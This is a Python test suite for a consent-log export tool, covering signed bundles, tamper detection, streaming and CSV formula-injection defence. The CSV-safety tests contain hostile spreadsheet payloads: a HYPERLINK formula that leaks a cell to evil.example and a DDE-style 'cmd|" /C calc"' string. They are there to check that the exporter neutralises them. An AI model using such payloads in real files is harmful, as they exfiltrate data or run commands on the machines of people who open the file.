"""Consent-history exports: bundles, offline verification, tampering, CSV safety, streaming."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import types
import uuid
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from portal.compliance import export
from portal.compliance.export import (
    COLUMNS,
    ExportFilter,
    canonical,
    data_chunks,
    manifest_bytes,
    plan_export,
    restore,
)
from portal.compliance.signing import SigningKey
from portal.compliance.verify import verify_bundle
from portal.consent import catalogue, log, tree
from portal.consent.models import EventKind
from portal.db import db
from tests.conftest import EXPORT_SIGNING_KEY, VAPID_PRIVATE
from tests.helpers import all_rows, sequence

KEY = SigningKey.from_setting(EXPORT_SIGNING_KEY)
DAY = ["--from", "2026-01-01", "--to", "2026-01-01"]


def _export(app, out: Path, *extra: str):
    return app.test_cli_runner().invoke(args=["portal", "export", *DAY, "--out", str(out), *extra])


def _verify(app, bundle: Path, *extra: str):
    return app.test_cli_runner().invoke(args=["portal", "verify-export", str(bundle), *extra])


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _audit(engine, action):
    rows = [r for r in all_rows(engine, "staff_audit") if r["action"] == action]
    for row in rows:
        if isinstance(row["detail"], str):
            row["detail"] = json.loads(row["detail"])
    return rows


# -- round trips ----------------------------------------------------------------------------


@pytest.mark.parametrize("data_format", ["csv", "ndjson"])
def test_export_then_verify_passes(app, engine, tmp_path, person, data_format):
    out = tmp_path / "bundle"
    result = _export(app, out, "--format", data_format)
    assert result.exit_code == 0, result.output
    assert f"exported 6 events to {out}" in result.output
    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert names == [
        "consent-events." + data_format,
        "manifest.json",
        "policies/v1.txt",
        "tree-proof.txt",
    ]
    assert (out / "policies/v1.txt").read_text() == "We send what you choose."

    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["data"]["rows"] == 6
    assert manifest["data"]["columns"] == list(COLUMNS)
    data_file = out / ("consent-events." + data_format)
    assert manifest["data"]["sha256"] == hashlib.sha256(data_file.read_bytes()).hexdigest()
    assert manifest["data"]["bytes"] == data_file.stat().st_size
    with app.app_context():
        leaves = db.session.execute(
            sa.text("SELECT idx, hash FROM consent_log_node WHERE level = 0 ORDER BY idx")
        ).all()
        head = tree.latest_head(db.session)
    # The export brought the tree up to the log first: every event is a leaf (seq - 1),
    # and the manifest carries the signed head it was cut at.
    assert [row.idx for row in leaves] == [0, 1, 2, 3, 4, 5]
    first, last = leaves[0], leaves[-1]
    assert manifest["events"]["first"] == {"seq": 1, "hash": bytes(first.hash).hex()}
    assert manifest["events"]["last"] == {"seq": 6, "hash": bytes(last.hash).hex()}
    assert head is not None and head.tree_size == manifest["log_head_seq"] == 6
    assert manifest["tree_head"] == head.to_json()
    assert manifest["exporter"]["kind"] == "command line"
    assert manifest["filters"]["from"] == manifest["filters"]["to"] == "2026-01-01"
    assert manifest["public_key"] == KEY.public.hex
    assert manifest["policies"][0]["sha256"] == catalogue.text_digest("We send what you choose.")
    unsigned = {k: v for k, v in manifest.items() if k != "signature"}
    assert KEY.public.verify(bytes.fromhex(manifest["signature"]), canonical(unsigned))

    checked = _verify(app, out, "--public-key", KEY.public.hex)
    assert checked.exit_code == 0, checked.output
    assert "OK: 6 events" in checked.output
    unpinned = _verify(app, out)
    assert unpinned.exit_code == 0
    assert "checked with the key inside the manifest" in unpinned.output

    (row,) = _audit(engine, "consent.exported")
    assert row["actor_email"] is None
    assert row["actor_via"] == "cli" and row["actor_os_user"]  # who ran the command
    assert row["detail"]["via"].startswith(f"command line ({row['actor_os_user']}@")
    assert row["detail"]["rows"] == 6
    assert row["detail"]["format"] == data_format
    assert row["detail"]["filters"] == {
        "from": "2026-01-01",
        "to": "2026-01-01",
        "topic": None,
        "subscriber": None,
    }


def test_the_rows_are_the_log_exactly(app, tmp_path, person):
    _export(app, tmp_path / "c")
    _export(app, tmp_path / "n", "--format", "ndjson")
    from_csv = _csv_rows(tmp_path / "c/consent-events.csv")
    lines = (tmp_path / "n/consent-events.ndjson").read_text().splitlines()
    from_json = [json.loads(line) for line in lines]
    assert [int(r["seq"]) for r in from_csv] == [r["seq"] for r in from_json] == [1, 2, 3, 4, 5, 6]
    offer = from_json[4]
    assert offer["topic_slug"] == "offers"
    assert (offer["previous_state"], offer["new_state"]) == ("opt_out", "opt_in")
    assert offer["recorded_at"] == "2026-01-01T00:10:00.000000Z"
    assert offer["decided_at"] == "2026-01-01T00:09:55.000000Z"
    assert offer["subscription_id"] is None
    assert from_csv[4]["subscription_id"] == ""
    assert json.loads(offer["context"]) == {"client": "Firefox 128", "screen": "preference-centre"}
    # Written since the tree (migration 0018): no hash chain; each row's leaf hash is the
    # event's RFC 9162 leaf hash, as the tree holds it.
    assert all(r["prev_hash"] is None and r["hash"] is None for r in from_json)
    assert all(r["prev_hash"] == r["hash"] == "" for r in from_csv)
    with app.app_context():
        events = db.session.execute(sa.select(log._t).order_by(log._t.c.seq)).all()
    assert [r["leaf_hash"] for r in from_json] == [
        log.event_leaf_hash(event).hex() for event in events
    ]
    assert [r["leaf_hash"] for r in from_csv] == [r["leaf_hash"] for r in from_json]


def test_filters_and_the_day_boundaries(app, clock, tmp_path, person, subscriptions):
    from tests.compliance.conftest import subscribe

    clock.set(dt.datetime(2026, 1, 1, 23, 59, 59, 999999, tzinfo=dt.UTC))
    late = subscribe(app, subscriptions)  # last microsecond of the day: included
    clock.set(dt.datetime(2026, 1, 2, tzinfo=dt.UTC))
    subscribe(app, subscriptions)  # the next day: left out
    _export(app, tmp_path / "all")
    assert len(_csv_rows(tmp_path / "all/consent-events.csv")) == 6 + 4
    _export(app, tmp_path / "late", "--subscriber", str(late.subscriber_id))
    rows = _csv_rows(tmp_path / "late/consent-events.csv")
    assert {r["subscriber_id"] for r in rows} == {str(late.subscriber_id)}
    assert len(rows) == 4
    _export(app, tmp_path / "offers", "--topic", "offers")
    rows = _csv_rows(tmp_path / "offers/consent-events.csv")
    assert {r["topic_slug"] for r in rows} == {"offers"}
    assert len(rows) == 4  # the person's 3, and the late subscriber's opt-out
    for name in ("all", "late", "offers"):
        assert _verify(app, tmp_path / name).exit_code == 0


def test_an_empty_period_is_a_valid_bundle(app, tmp_path, person):
    out = tmp_path / "empty"
    result = app.test_cli_runner().invoke(
        args=["portal", "export", "--from", "2025-01-01", "--to", "2025-01-31", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["data"]["rows"] == 0
    assert manifest["events"] == {"first": None, "last": None}
    assert manifest["policies"] == []
    assert (out / "consent-events.csv").read_text() == ",".join(COLUMNS) + "\n"
    assert _verify(app, out).exit_code == 0


def test_refusals(app, tmp_path, person, make_app):
    (tmp_path / "taken").mkdir()
    assert "exists already" in _export(app, tmp_path / "taken").output
    backwards = app.test_cli_runner().invoke(
        args=[
            "portal",
            "export",
            "--from",
            "2026-02-01",
            "--to",
            "2026-01-01",
            "--out",
            str(tmp_path / "x"),
        ]
    )
    assert backwards.exit_code == 1
    assert "the end date is before the start date" in backwards.output
    unknown = _export(app, tmp_path / "y", "--topic", "nope")
    assert unknown.exit_code == 1
    assert "there is no topic 'nope'" in unknown.output
    assert not (tmp_path / "x").exists()
    assert not (tmp_path / "y").exists()
    keyless = make_app(export_signing_key="")
    result = keyless.test_cli_runner().invoke(
        args=["portal", "export", *DAY, "--out", str(tmp_path / "z")]
    )
    assert result.exit_code == 1
    assert "EXPORT_SIGNING_KEY is not set" in result.output


# -- tampering ------------------------------------------------------------------------------


def _flip(path: Path, old: bytes, new: bytes) -> None:
    content = path.read_bytes()
    assert content.count(old) >= 1
    path.write_bytes(content.replace(old, new, 1))


@pytest.fixture
def bundle(app, tmp_path, person) -> Path:
    out = tmp_path / "bundle"
    assert _export(app, out).exit_code == 0
    return out


def test_one_byte_changed_in_the_data_is_caught_and_located(app, bundle):
    _flip(
        bundle / "consent-events.csv", b",opt_in,preference-centre,", b",opt_in,preference-centrf,"
    )
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "FAILED consent-events.csv: sha256: SHA-256 is" in result.output
    assert (
        "FAILED consent-events.csv: event hash: line 6 (seq 5): "
        "the hash does not match the event's content" in result.output
    )


def test_one_byte_changed_in_the_manifest_is_caught(app, bundle):
    _flip(bundle / "manifest.json", b'"rows": 6', b'"rows": 5')
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "FAILED manifest.json: signature: the signature does not verify" in result.output
    assert "FAILED consent-events.csv: row count: 6 rows, the manifest says 5" in result.output


# Each JSON space becomes another: the manifest means the same, so its signature holds.
_OTHER_SPACE = {0x20: 0x09, 0x09: 0x0A, 0x0A: 0x0D, 0x0D: 0x20}


def _other_byte(byte: int) -> int:
    """What one byte becomes: another space for a space, else the byte with a bit flipped."""
    return _OTHER_SPACE.get(byte, byte ^ 0x01)


def test_any_one_byte_changed_in_the_manifest_is_caught_there(bundle):
    path = bundle / "manifest.json"
    original = path.read_bytes()
    assert verify_bundle(bundle).ok
    for offset, byte in enumerate(original):
        path.write_bytes(original[:offset] + bytes([_other_byte(byte)]) + original[offset + 1 :])
        report = verify_bundle(bundle)
        assert not report.ok, (offset, chr(byte))
        assert "manifest.json" in {p.file for p in report.problems}, (offset, report.problems)
    path.write_bytes(original)
    assert verify_bundle(bundle).ok


def test_spacing_changed_in_the_manifest_is_located(app, bundle):
    path = bundle / "manifest.json"
    original = path.read_bytes()
    offset = original.index(b'"rows": 6') + len(b'"rows":')
    line = original.count(b"\n", 0, offset) + 1
    path.write_bytes(original[:offset] + b"\t" + original[offset + 1 :])
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert (
        f"FAILED manifest.json: layout: byte {offset} (line {line}) is not what the exporter "
        "wrote there: the file was edited after export" in result.output
    )
    assert "signature" not in result.output  # the content, and so the signature, is intact


def test_any_one_byte_changed_in_the_data_is_caught_there(bundle):
    path = bundle / "consent-events.csv"
    original = path.read_bytes()
    # The file's SHA-256 catches any byte by construction: every third byte and every line
    # end are enough to show it, and that the problem is put on the data file.
    ends = {i for i, byte in enumerate(original) if byte == 0x0A}
    for offset in sorted(set(range(0, len(original), 3)) | ends):
        byte = original[offset]
        path.write_bytes(original[:offset] + bytes([byte ^ 0x01]) + original[offset + 1 :])
        report = verify_bundle(bundle)
        assert not report.ok, offset
        assert "consent-events.csv" in {p.file for p in report.problems}, offset
        assert all(p.file != "manifest.json" for p in report.problems), report.problems
    path.write_bytes(original)
    assert verify_bundle(bundle).ok


def test_a_changed_policy_text_is_caught(app, bundle):
    _flip(bundle / "policies/v1.txt", b"choose", b"chose")
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "FAILED policies/v1.txt: sha256: SHA-256 is" in result.output


def test_a_missing_policy_text_is_caught(app, bundle):
    (bundle / "policies/v1.txt").unlink()
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "FAILED policies/v1.txt: missing" in result.output


def test_another_key_is_caught(app, bundle):
    from portal.config import generate_signing_key

    other = SigningKey.from_setting(generate_signing_key()).public.hex
    result = _verify(app, bundle, "--public-key", other)
    assert result.exit_code == 1
    assert "FAILED manifest.json: public key: the manifest names key" in result.output
    assert "FAILED manifest.json: signature" in result.output
    assert _verify(app, bundle, "--public-key", "zz").exit_code == 2  # a usage error


def _resign(bundle: Path, change) -> None:
    """Rewrite the data and re-sign the manifest with the real key: what a dishonest
    exporter could do. Only the row checks stand between that and a passing bundle."""
    path = bundle / "consent-events.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    rows = change(rows)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode())
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["data"]["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    manifest["data"]["rows"] = len(rows) - 1
    manifest.pop("signature")
    manifest["signature"] = KEY.sign(canonical(manifest)).hex()
    (bundle / "manifest.json").write_bytes(manifest_bytes(manifest))


def test_an_edited_event_fails_even_when_re_signed(app, bundle):
    def edit(rows):
        rows[4][COLUMNS.index("new_state")] = "opt_in"  # seq 4 was an opt-out
        return rows

    _resign(bundle, edit)
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "event hash: line 5 (seq 4): the hash does not match" in result.output
    assert "signature" not in result.output


def test_an_event_outside_the_bundles_tree_head_is_caught(app, bundle):
    """A bundle claims its events are leaves under its signed tree head: one past the
    head's size is named, even when the manifest is re-signed."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["tree_head"]["tree_size"] = 5
    manifest.pop("signature")
    manifest["signature"] = KEY.sign(canonical(manifest)).hex()
    (bundle / "manifest.json").write_bytes(manifest_bytes(manifest))
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "tree head: line 7 (seq 6): is not in the tree head of size 5" in result.output


def test_blank_chain_cells_do_not_skip_the_leaf_check(app, bundle):
    def edit(rows):
        rows[4][COLUMNS.index("new_state")] = "opt_in"
        rows[4][COLUMNS.index("prev_hash")] = rows[4][COLUMNS.index("hash")] = ""
        return rows

    _resign(bundle, edit)
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "event hash: line 5 (seq 4): the hash does not match" in result.output


def test_a_forged_link_is_caught_even_when_re_signed(app, bundle):
    def forge(rows):
        rows[4][COLUMNS.index("prev_hash")] = "ab" * 32  # seq 4
        return rows

    _resign(bundle, forge)
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "event hash: line 5 (seq 4): the hash does not match" in result.output
    assert "chain: line 5 (seq 4): prev_hash is not the hash of seq 3" in result.output


def test_consecutive_events_must_chain(app, bundle):
    def swap(rows):
        # Replace seq 3 by a self-consistent event whose prev_hash points elsewhere.
        from portal.compliance.verify import _event_hash

        row = dict(zip(COLUMNS, rows[3], strict=True))
        row.update({"prev_hash": "cd" * 32, "topic_id": int(row["topic_id"])})
        row["seq"] = int(row["seq"])
        for name in ("previous_state", "new_state", "policy_version", "subscription_id"):
            row[name] = row[name] or None
        rows[3][COLUMNS.index("prev_hash")] = "cd" * 32
        rows[3][COLUMNS.index("hash")] = _event_hash(row).hex()
        return rows

    _resign(bundle, swap)
    result = _verify(app, bundle)
    assert result.exit_code == 1
    assert "chain: line 4 (seq 3): prev_hash is not the hash of seq 2" in result.output


def test_not_a_bundle(app, tmp_path):
    result = _verify(app, tmp_path)
    assert result.exit_code == 1
    assert "has no manifest.json" in result.output


# -- CSV safety and secrets -----------------------------------------------------------------

RISKY_VALUES = ["@SUM(1+1)", "+1 555", "-2+3", "\t=cmd", "\r=cmd", "'quoted", "=1+1"]


@pytest.fixture
def risky(app, clock, catalogue_ready):
    """Events whose free-text cells start with what a spreadsheet would run."""
    with db.begin(app) as session:
        topic = catalogue.add_topic(
            session,
            slug="tricky",
            category="News",
            label='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            now=clock.now(),
        )
        for value in RISKY_VALUES:
            log.append(
                session,
                kind=EventKind.PREFERENCE_CHANGED,
                subscriber_id=uuid.uuid4(),
                topic_id=topic.id,
                previous_state="unset",
                new_state="opt_in",
                source=value,
                actor=value,
                recorded_at=clock.now(),
                policy_version="v1",
                context=log.Context(screen=value, client=value),
            )
    return topic


def test_formula_cells_are_neutralised(app, tmp_path, risky):
    out = tmp_path / "csv"
    assert _export(app, out).exit_code == 0
    raw = (out / "consent-events.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))[1:]
    assert len(rows) == len(RISKY_VALUES)
    for cells in rows:
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    labels = {r[COLUMNS.index("topic_label")] for r in rows}
    assert labels == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'}
    assert [r[COLUMNS.index("source")] for r in rows] == ["'" + v for v in RISKY_VALUES]
    assert [restore(r[COLUMNS.index("actor")]) for r in rows] == RISKY_VALUES
    # Reversible: the verifier recomputes every hash from the neutralised cells.
    assert _verify(app, out).exit_code == 0
    # NDJSON is for programs: the values as they are.
    nd = tmp_path / "nd"
    _export(app, nd, "--format", "ndjson")
    values = [json.loads(line) for line in (nd / "consent-events.ndjson").read_text().splitlines()]
    assert [v["source"] for v in values] == RISKY_VALUES
    assert values[0]["topic_label"].startswith("=HYPERLINK(")
    assert _verify(app, nd).exit_code == 0


HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_AGENT = '@SUM(1+1)*cmd|" /C calc"!A0 Firefox/128.0'


def test_formulas_typed_in_the_console_or_sent_by_a_browser_are_neutralised(
    app, engine, tmp_path, subscriptions, officer, admin_browser, catalogue_ready
):
    """End to end: a topic label an admin typed, and a user agent a browser sent, reach
    the downloaded CSV without starting a cell with anything a spreadsheet runs."""
    from tests.compliance.conftest import subscribe

    edited = admin_browser.post(
        "/staff/admin/topics/weekly-digest/edit", {"label": HOSTILE_LABEL, "description": ""}
    )
    assert edited.status_code == 303
    someone = subscribe(app, subscriptions, **{"User-Agent": HOSTILE_AGENT})
    # A source is one of a fixed list: a formula is refused before anything is written.
    refused = app.test_client().post(
        "/api/push/preferences",
        json={
            "endpoint": someone.sub.endpoint,
            "decisions": [{"slug": "offers", "state": "opt_in"}],
            "policyVersion": "v1",
            "decidedAt": "2026-01-01T00:00:00Z",
            "source": "=1+1",
        },
        headers={"User-Agent": HOSTILE_AGENT},
    )
    assert refused.status_code == 422
    assert refused.json["error"]["field"] == "source"

    response = officer.post("/staff/compliance/export", _form())
    assert response.status_code == 200
    path = tmp_path / "export.zip"
    path.write_bytes(response.get_data())
    with zipfile.ZipFile(path) as archive:
        (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
        raw = archive.read(name).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    labels = {r["topic_label"] for r in rows if r["topic_slug"] == "weekly-digest"}
    assert labels == {"'" + HOSTILE_LABEL}
    assert restore("'" + HOSTILE_LABEL) == HOSTILE_LABEL
    # The user agent is kept only as a family inside the context cell, never verbatim.
    assert HOSTILE_AGENT not in raw and "cmd|" not in raw
    clients = {json.loads(r["context"]).get("client") for r in rows if r["context"]}
    assert clients == {"Firefox 128"}
    assert verify_bundle(path, KEY.public).ok


def test_no_secrets_or_endpoints_in_a_bundle(app, tmp_path, person, settings):
    out_csv, out_nd = tmp_path / "c", tmp_path / "n"
    _export(app, out_csv)
    _export(app, out_nd, "--format", "ndjson")
    everything = b"".join(
        p.read_bytes() for folder in (out_csv, out_nd) for p in folder.rglob("*") if p.is_file()
    )
    secrets = [
        person.sub.endpoint,
        person.sub.endpoint.rsplit("/", 1)[1],  # the push service's token on its own
        person.sub.p256dh,
        person.sub.auth_b64,
        person.sub.auth.hex(),
        settings.secret_key,
        VAPID_PRIVATE,
        EXPORT_SIGNING_KEY,
        KEY.private.private_bytes_raw().hex(),
    ]
    for secret in secrets:
        assert secret.encode() not in everything, secret[:12]


# -- streaming ------------------------------------------------------------------------------


class CountingEngine:
    """The engine, counting the connections an export opens (one or more per batch)."""

    def __init__(self, engine) -> None:
        self.engine = engine
        self.dialect = engine.dialect
        self.connections = 0

    def connect(self):
        self.connections += 1
        return self.engine.connect()


@pytest.fixture
def many(app, clock, catalogue_ready):
    with db.begin(app) as session:
        for _ in range(50):
            log.append(
                session,
                kind=EventKind.SUBSCRIBED,
                subscriber_id=uuid.uuid4(),
                source="api",
                actor="subscriber",
                recorded_at=clock.now(),
            )
    sequence(app)  # in the tree, as the sequencer has them within a second


@pytest.mark.parametrize("data_format", ["csv", "ndjson"])
def test_rows_are_read_a_batch_at_a_time(app, engine, many, data_format):
    with engine.connect() as conn:
        plan = plan_export(conn, ExportFilter(dt.date(2026, 1, 1), dt.date(2026, 1, 1)))
    counting = CountingEngine(engine)
    chunks = data_chunks(counting, plan, data_format, batch_size=10)
    assert isinstance(chunks, types.GeneratorType)
    assert counting.connections == 0  # nothing read before the first chunk is asked for
    first = next(chunks)
    if data_format == "csv":
        first += next(chunks)  # the header comes on its own
    assert counting.connections == 1
    assert first.count(b"\n") <= 11
    rest = b"".join(chunks)
    assert counting.connections == 5
    assert (first + rest).count(b"\n") == 50 + (data_format == "csv")


def test_the_zip_is_produced_while_it_is_sent(app, engine, many, tmp_path):
    with engine.connect() as conn:
        plan = plan_export(conn, ExportFilter(dt.date(2026, 1, 1), dt.date(2026, 1, 1)))
    counting = CountingEngine(engine)
    stream = export.stream_zip(
        counting,
        plan,
        "csv",
        exporter={"kind": "test"},
        created_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        key=KEY,
        batch_size=10,
    )
    first = next(stream) + next(stream)  # the member's header and the CSV header, then rows
    assert first.startswith(b"PK\x03\x04")
    assert counting.connections == 1
    path = tmp_path / "b.zip"
    path.write_bytes(first + b"".join(stream))
    assert verify_bundle(path).ok


# -- the export page ------------------------------------------------------------------------


def _form(**changes):
    return {
        "date_from": "2026-01-01",
        "date_to": "2026-01-01",
        "data_format": "csv",
        "topic": "",
        "subscriber": "",
        **changes,
    }


def test_the_page_streams_a_verifiable_zip(app, engine, officer, person, tmp_path):
    page = officer.get("/staff/compliance/export")
    assert page.status_code == 200
    assert 'value="2026-01-01"' in page.text  # the whole history by default
    assert "<legend>Period</legend>" in page.text
    response = officer.post("/staff/compliance/export", _form())
    assert response.status_code == 200
    # Streamed: produced while sent, so no length is known up front.
    assert "Content-Length" not in response.headers
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="consent-export-2026-01-01_2026-01-01-csv.zip"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    path = tmp_path / "download.zip"
    path.write_bytes(response.get_data())
    with zipfile.ZipFile(path) as archive:
        assert sorted(archive.namelist()) == [
            "consent-export-2026-01-01_2026-01-01-csv/consent-events.csv",
            "consent-export-2026-01-01_2026-01-01-csv/manifest.json",
            "consent-export-2026-01-01_2026-01-01-csv/policies/v1.txt",
            "consent-export-2026-01-01_2026-01-01-csv/tree-proof.txt",
        ]
        manifest = json.loads(
            archive.read("consent-export-2026-01-01_2026-01-01-csv/manifest.json")
        )
    assert manifest["exporter"] == {
        "kind": "staff",
        "id": manifest["exporter"]["id"],
        "email": "officer@example.test",
    }
    report = verify_bundle(path, KEY.public)
    assert report.ok, report.problems
    assert report.rows == 6
    result = _verify(app, path, "--public-key", KEY.public.b64url)
    assert result.exit_code == 0, result.output
    (row,) = _audit(engine, "consent.exported")
    assert row["actor_email"] == "officer@example.test"
    assert row["target"] == "consent-log"
    assert row["detail"]["via"] == "console"
    assert row["detail"]["rows"] == 6


@pytest.mark.parametrize(
    ("start", "end", "data_format", "name"),
    [
        ("2026-01-01", "2026-01-31", "csv", "consent-export-2026-01-01_2026-01-31-csv"),
        ("2026-01-01", "2026-01-31", "ndjson", "consent-export-2026-01-01_2026-01-31-ndjson"),
        ("2025-12-31", "2025-12-31", "csv", "consent-export-2025-12-31_2025-12-31-csv"),
    ],
)
def test_a_bundle_is_named_after_its_period_and_format(start, end, data_format, name):
    filters = ExportFilter(dt.date.fromisoformat(start), dt.date.fromisoformat(end))
    assert export.bundle_name(filters, data_format) == name


def test_no_bundle_name_for_a_format_that_does_not_exist():
    with pytest.raises(export.ExportError, match="no data format 'xml'"):
        export.bundle_name(ExportFilter(dt.date(2026, 1, 1), dt.date(2026, 1, 1)), "xml")


def test_csv_and_ndjson_downloads_have_their_own_names(app, officer, person, tmp_path):
    names = {}
    for data_format in ("csv", "ndjson"):
        response = officer.post("/staff/compliance/export", _form(data_format=data_format))
        assert response.status_code == 200
        names[data_format] = response.headers["Content-Disposition"]
        path = tmp_path / f"{data_format}.zip"
        path.write_bytes(response.get_data())
        with zipfile.ZipFile(path) as archive:
            folders = {name.split("/")[0] for name in archive.namelist()}
        assert folders == {f"consent-export-2026-01-01_2026-01-01-{data_format}"}
        assert verify_bundle(path, KEY.public).ok
    assert names == {
        "csv": 'attachment; filename="consent-export-2026-01-01_2026-01-01-csv.zip"',
        "ndjson": 'attachment; filename="consent-export-2026-01-01_2026-01-01-ndjson.zip"',
    }


def test_the_command_names_the_folder_after_the_period_and_format(
    app, person, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    result = app.test_cli_runner().invoke(args=["portal", "export", *DAY, "--format", "ndjson"])
    assert result.exit_code == 0, result.output
    folder = tmp_path / "consent-export-2026-01-01_2026-01-01-ndjson"
    assert (folder / "consent-events.ndjson").exists()
    assert f"to {folder.name} " in result.output
    assert _verify(app, folder).exit_code == 0
    again = app.test_cli_runner().invoke(args=["portal", "export", *DAY, "--format", "ndjson"])
    assert again.exit_code == 1
    assert "exists already" in again.output


def test_the_form_starts_with_the_whole_history_and_says_so(
    app, engine, officer, person, clock, tmp_path
):
    clock.advance(dt.timedelta(days=40))  # the first events are older than 30 days now
    officer.sign_in("officer@example.test")  # the session has long run out
    html = officer.get("/staff/compliance/export").text
    assert 'name="date_from" type="date" value="2026-01-01"' in html
    assert 'name="date_to" type="date" value="2026-02-10"' in html
    covered = html.split('id="period-covered">')[1].split("</p>")[0]
    assert "whole history" in covered
    assert '<time datetime="2026-01-01">01 January 2026</time>, the day of the first' in covered
    assert 'to today, <time datetime="2026-02-10">10 February 2026</time>' in covered
    # No hint claims a way of writing the date: the browser shows a date field its own way.
    period = html.split("<legend>Period</legend>")[1].split("</fieldset>")[0]
    hints = " ".join(re.findall(r'<p class="hint"[^>]*>(.*?)</p>', period, re.S))
    assert "For example" not in period and not re.search(r"\d{4}-\d{2}-\d{2}", hints)
    # The defaults export everything recorded so far.
    response = officer.post(
        "/staff/compliance/export", _form(date_from="2026-01-01", date_to="2026-02-10")
    )
    path = tmp_path / "all.zip"
    path.write_bytes(response.get_data())
    assert verify_bundle(path, KEY.public).rows == len(all_rows(engine, "consent_event")) == 6


def test_the_form_on_an_empty_log_says_any_period_is_empty(app, officer, catalogue_ready):
    html = officer.get("/staff/compliance/export").text
    assert "No consent event has been recorded yet" in html
    assert 'name="date_from" type="date" value="2026-01-01"' in html


def test_the_page_filters_by_subscriber_and_topic(app, engine, officer, person, tmp_path):
    response = officer.post(
        "/staff/compliance/export",
        _form(data_format="ndjson", topic="offers", subscriber=str(person.subscriber_id)),
    )
    path = tmp_path / "f.zip"
    path.write_bytes(response.get_data())
    assert verify_bundle(path).rows == 3
    (row,) = _audit(engine, "consent.exported")
    assert row["target"] == f"subscriber:{person.subscriber_id}"
    assert row["detail"]["filters"]["topic"] == "offers"


def test_the_page_names_every_problem(app, engine, officer, person):
    response = officer.post(
        "/staff/compliance/export",
        _form(date_from="2026-02-30", date_to="", data_format="xml", topic="nope", subscriber="x"),
    )
    assert response.status_code == 422
    assert "Content-Length" in response.headers  # a page, not a download
    html = response.text
    for anchor in ("date_from", "date_to", "data_format", "topic", "subscriber"):
        assert f'<a href="#{anchor}">' in html
    assert _audit(engine, "consent.exported") == []
    backwards = officer.post("/staff/compliance/export", _form(date_from="2026-01-02"))
    assert backwards.status_code == 422
    assert "To must be the same as or after From" in backwards.text


def test_the_page_without_a_signing_key(make_app, make_staff, browser, catalogue_ready):
    from portal.staff.models import Role

    keyless = make_app(export_signing_key="")
    make_staff("officer@example.test", Role.COMPLIANCE)
    person = browser(keyless)
    person.sign_in("officer@example.test")
    assert "Exports are switched off" in person.get("/staff/compliance/export").text
    response = person.post("/staff/compliance/export", _form())
    assert response.status_code == 503
    assert "EXPORT_SIGNING_KEY is not set" in response.text
    assert "No key is set" in person.get("/staff/compliance/signing-key").text


def test_the_subscriber_page_links_to_a_prefilled_export(app, officer, person):
    page = officer.get(f"/staff/compliance/export?subscriber={person.subscriber_id}").text
    assert f'value="{person.subscriber_id}"' in page


def test_the_signing_key_page(app, officer, admin_browser):
    for viewer in (officer, admin_browser):
        html = viewer.get("/staff/compliance/signing-key").text
        assert KEY.public.hex in html
        assert KEY.public.b64url in html
        assert "-----BEGIN PUBLIC KEY-----" in html
        assert KEY.public.fingerprint in html


def test_an_abandoned_download_leaves_the_database_usable(app, engine, many):
    with engine.connect() as conn:
        plan = plan_export(conn, ExportFilter(dt.date(2026, 1, 1), dt.date(2026, 1, 1)))
    stream = export.stream_zip(
        engine,
        plan,
        "csv",
        exporter={"kind": "test"},
        created_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        key=KEY,
        batch_size=10,
    )
    next(stream)
    next(stream)  # in the middle of the rows, a batch's connection open
    stream.close()  # the browser went away
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM consent_event")).scalar_one() == 50
    with db.begin(app) as session:  # and writers are not blocked
        log.append(
            session,
            kind=EventKind.SUBSCRIBED,
            subscriber_id=uuid.uuid4(),
            source="api",
            actor="subscriber",
            recorded_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        )
